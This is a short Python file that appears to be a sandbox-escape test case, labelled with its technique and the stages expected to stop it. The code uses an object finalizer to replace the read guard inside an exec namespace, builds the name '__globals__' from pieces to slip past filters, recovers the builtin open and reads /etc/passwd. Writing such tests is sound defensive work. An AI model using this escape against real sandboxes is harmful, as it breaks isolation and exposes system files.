# tries: a finalizer changes the dict in which exec runs
# class: shadowing
# stops: 2 3 4
import fractions


def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def dig(function):
    space = getattr(function, "__glo" + "bals__")
    print("REACHED")
    return space["__builtins__"]["open"]


def guard(receiver, name=None):
    print("REACHED")
    return receiver


class Late:
    def __del__(self):
        space["_read_"] = guard


space = {"p": fractions.Fraction.numerator, "late": Late()}
exec("late = None\nfound = p.fget", space)
use(dig(space["found"]))
